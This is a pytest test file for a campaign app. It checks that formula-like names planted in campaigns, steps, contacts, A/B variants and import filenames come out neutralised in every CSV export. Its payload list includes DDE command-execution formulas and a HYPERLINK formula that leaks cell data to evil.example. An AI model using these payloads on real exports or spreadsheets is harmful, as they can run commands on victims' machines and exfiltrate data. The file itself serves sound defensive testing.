"""CSV formula injection over every CSV download the app has.

A campaign, its steps, an A/B test and its variants are named like spreadsheet formulas; every
GET route of app.url_map is asked for its answer (and, where it takes them, for each report
type as CSV). No cell of any CSV may start with = + - @ tab or CR unless it is a plain number.

The CSV routes are found, not listed: a route is a CSV route when it answers text/csv. The
known ones must be among them (so the test cannot pass by finding none), and so must every
path the OpenAPI document says can answer text/csv and every route whose path ends in .csv.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest

from app import reports
from app.drip.analytics import TYPES
from app.envelope import camel_case
from app.extensions import db
from app.models import (
    Contact,
    ContactImport,
    DripAbTest,
    DripAbVariant,
    DripCampaign,
    DripCampaignStep,
)
from app.reports.csv_writer import FORMULA_STARTS, NUMBER
from tests.integration.test_analytics import scenario  # noqa: F401 - the shared fixture
from tests.integration.test_isolation import build, rows_of_org

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
KNOWN_CSV_ENDPOINTS = {"api_analytics.campaign_analytics", "ab_tests.results_csv"}
# Each CSV route is asked for every report it has: the types, cohort sizes and a comparison.
CSV_QUERIES = [
    *({"format": "csv", "type": kind} for kind in TYPES),
    *({"format": "csv", "type": "cohort", "granularity": g} for g in ("day", "week", "month")),
    {"format": "csv", "type": "timeseries", "from": "2026-10-30", "to": "2026-11-20"},
    {
        "format": "csv",
        "type": "cohort",
        "a": "2026-11-01..2026-11-08",
        "b": "2026-11-09..2026-11-30",
    },
]


def plant_formulas(org_id: int, campaign_id: int) -> dict[str, int]:
    """Formula-looking names on everything a person names: the campaign, its steps, its
    contacts, an A/B test and its variants, an import's file name. (Failure codes reach the
    funnel as numbers: the rollups store them as integers.)"""
    session = db.session
    session.get(DripCampaign, campaign_id).name = FORMULAS[0]
    steps = session.query(DripCampaignStep).filter_by(campaign_id=campaign_id).all()
    for step, name in zip(sorted(steps, key=lambda s: s.position), FORMULAS, strict=False):
        step.name = name
    for contact, name in zip(session.query(Contact).all(), FORMULAS, strict=False):
        contact.first_name = contact.last_name = name
    step = min(steps, key=lambda s: s.position)
    test = DripAbTest(
        organization_id=org_id, campaign_id=campaign_id, step_id=step.id, name=FORMULAS[2]
    )
    session.add(test)
    session.flush()
    variants = [
        DripAbVariant(
            organization_id=org_id,
            test_id=test.id,
            name=name,
            is_control=i == 0,
            traffic_allocation=Decimal(50),
            message_content=name,
        )
        for i, name in enumerate(FORMULAS[3:5])
    ]
    session.add_all(variants)
    session.add(ContactImport(organization_id=org_id, filename=FORMULAS[1], status="done"))
    session.commit()
    return {
        "id": campaign_id,
        "campaign_id": campaign_id,
        "step_id": step.id,
        "test_id": test.id,
        "variant_id": variants[0].id,
    }


@pytest.fixture
def world(clean_app, org_a, scenario):  # noqa: F811
    with clean_app.app_context():
        ids = rows_of_org(org_a)  # a row for every other argument a route takes
        ids["code"] = f"c{org_a.org_id}x0"  # its short link's code
        ids.update(plant_formulas(org_a.org_id, scenario["campaign"]))
        return ids


@pytest.fixture
def no_browser(monkeypatch):
    """Chart images are not CSV: the routes answer without starting Chromium."""
    monkeypatch.setattr(reports, "to_image", lambda figure, fmt, *args: b"image")


def get_rules(app):
    return [rule for rule in app.url_map.iter_rules() if "GET" in rule.methods]


def is_csv(response) -> bool:
    return response.mimetype == "text/csv"


def csv_downloads(app, client, ids) -> dict[str, list[tuple[str, str]]]:
    """Every CSV the app answers, by endpoint: (url with query, text)."""
    found: dict[str, list[tuple[str, str]]] = {}
    for rule in get_rules(app):
        url = build(rule, ids)
        probes = [client.get(url), client.get(url, query_string={"format": "csv"})]
        if not any(is_csv(response) for response in probes):
            continue
        for query in [{}, *CSV_QUERIES]:
            response = client.get(url, query_string=query)
            if is_csv(response):
                assert response.status_code == 200, (url, query, response.status_code)
                text = response.get_data(as_text=True)
                found.setdefault(rule.endpoint, []).append((f"{url}?{query}", text))
    return found


def openapi_csv_paths(client) -> set[str]:
    document = client.get("/api/openapi.json").get_json()
    return {
        path
        for path, operations in document["paths"].items()
        for operation in operations.values()
        if isinstance(operation, dict)
        for response in operation.get("responses", {}).values()
        if "text/csv" in (response.get("content") or {})
    }


def openapi_path(rule) -> str:
    """The rule's path as the OpenAPI document writes it ({importId} for <int:import_id>)."""
    return re.sub(
        r"<(?:[^:<>]+:)?([^<>]+)>", lambda m: "{" + camel_case(m.group(1)) + "}", rule.rule
    )


def test_no_csv_cell_is_a_formula(clean_app, world, client_a, no_browser):
    downloads = csv_downloads(clean_app, client_a, world)
    assert KNOWN_CSV_ENDPOINTS <= set(downloads), set(downloads)
    planted_seen = set()
    for endpoint, answers in downloads.items():
        for where, text in answers:
            for row in csv.reader(io.StringIO(text, newline="")):
                for cell in row:
                    if cell.lstrip(" ").startswith(FORMULA_STARTS):
                        assert NUMBER.fullmatch(cell), (endpoint, where, cell)
                    if cell[1:] in FORMULAS:
                        assert cell[0] == "'", (endpoint, where, cell)
                        planted_seen.add(endpoint)
                    assert cell not in FORMULAS, (endpoint, where, cell)
    # The planted names did reach the funnel (step names) and the A/B results (variants).
    assert KNOWN_CSV_ENDPOINTS <= planted_seen, planted_seen


def test_every_csv_route_is_found(clean_app, world, client_a, no_browser):
    """The walk above misses no CSV route: what the OpenAPI document says answers text/csv,
    and any route named .csv, answered CSV when asked."""
    found = set(csv_downloads(clean_app, client_a, world))
    rules = {rule.endpoint: rule for rule in get_rules(clean_app)}
    found_paths = {openapi_path(rules[endpoint]) for endpoint in found}
    assert openapi_csv_paths(client_a) <= found_paths
    named_csv = {rule.endpoint for rule in rules.values() if ".csv" in rule.rule}
    assert named_csv <= found, named_csv - found


def test_the_dashboard_csv_links_are_safe(clean_app, world, client_a):
    """The "Download CSV" links the dashboard shows answer neutralised CSV too."""
    html = client_a.get(f"/campaigns/{world['id']}/analytics").get_data(as_text=True)
    links = re.findall(r'href="([^"]*format=csv[^"]*)"', html)
    assert links
    for link in links:
        response = client_a.get(link.replace("&amp;", "&"))
        assert is_csv(response), link
        for row in csv.reader(io.StringIO(response.get_data(as_text=True), newline="")):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), cell


def test_a_formula_step_name_reads_as_text_in_the_funnel(clean_app, world, org_a):
    response = clean_app.test_client().get(
        f"/api/drip-campaigns/{world['id']}/analytics?format=csv", headers=org_a.auth
    )
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert [row["step"] for row in rows] == ["'" + name for name in FORMULAS[:3]]
    assert rows[0]["drop_off_rate"] == str(3 * 100 / 7)  # numbers are left as they are
